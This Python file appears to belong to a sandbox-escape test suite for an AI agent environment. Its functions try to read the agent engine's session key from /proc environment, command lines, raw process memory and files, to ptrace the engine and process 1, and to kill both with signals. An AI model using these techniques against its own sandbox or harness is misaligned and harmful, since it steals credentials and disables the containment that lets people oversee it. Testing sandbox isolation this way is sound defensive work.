# ruff: noqa: PTH123
"""Attempts on the sandbox's own processes: its process 1, its engine and the engine's keys."""

import os
import re
import signal
import time
from pathlib import Path

from attempts.catalog import Hints, Refused, attempt, list_pids
from attempts.processes import _trace

INSIDE = "Reach the parts of the own sandbox"


def _find_engine(hints: Hints) -> int:
    for pid in [hints["engine"]] if hints["engine"] else list_pids():
        try:
            if b"openhands.agent_server" in Path(f"/proc/{pid}/cmdline").read_bytes():
                return pid
        except OSError:
            continue
    raise Refused("the engine is not visible")


def _find_key(data: bytes, prefix: str) -> str:
    match = re.search(prefix.encode() + rb"[0-9a-f]{16}", data)
    return match[0].decode() if match else ""


def _search(pids: list[int], what: str, text: str) -> str:
    error: Exception = Refused("nothing found")
    for pid in pids:
        try:
            if what == "environ":
                for name in ("environ", "cmdline"):
                    if found := _find_key(Path(f"/proc/{pid}/{name}").read_bytes(), text):
                        return f"{found} in {pid}"
                continue
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    first, last = (int(part, 16) for part in line.split()[0].split("-"))
                    if "rw" not in line or last - first > 200_000_000:
                        continue
                    try:
                        memory.seek(first)
                        data = memory.read(last - first)
                    except OSError:
                        continue
                    if found := _find_key(data, text):
                        return found
        except OSError as raised:
            error = raised
    raise error


@attempt(INSIDE, "the engine's key by its environment or the command lines", proof="session_key")
def read_key_in_environ(hints: Hints) -> str:
    return _search(list_pids(), "environ", hints["key_prefix"])


@attempt(INSIDE, "the engine's key in its memory", proof="session_key")
def read_key_in_memory(hints: Hints) -> str:
    return _search([_find_engine(hints)], "memory", hints["key_prefix"])


@attempt(INSIDE, "the engine's key in a file", proof="session_key")
def read_key_in_file(hints: Hints) -> str:
    places = ("/tmp", "/workspace", "/opt") if not hints["engine"] else ("..",)
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names:
                path = Path(folder, name)
                try:
                    if (
                        path.is_file()
                        and path.stat().st_size < 5_000_000
                        and ".escape" not in folder
                    ):
                        data = path.read_bytes()
                        if found := _find_key(data, hints["key_prefix"]):
                            return f"{path}: {found}"
                except OSError:
                    continue
    raise Refused("no file contains it")


@attempt(INSIDE, "trace the engine by `ptrace`", check="")
def trace_engine(hints: Hints) -> str:
    return _trace(_find_engine(hints))


@attempt(INSIDE, "trace process 1, or read its memory and environment", check="")
def trace_first(hints: Hints) -> str:
    Path("/proc/1/environ").read_bytes()
    return _trace(1)


@attempt(
    INSIDE,
    "end process 1 of the sandbox (control: a process of the server)",
    check="watcher_killed",
)
def kill_first(hints: Hints) -> str:
    pid = hints["watcher"]
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        os.kill(pid, number)
    time.sleep(0.3)
    return "sent"


@attempt(INSIDE, "end the engine (harms only this sandbox)", check="engine_killed")
def kill_engine(hints: Hints) -> str:
    os.kill(_find_engine(hints), signal.SIGKILL)
    return "sent"
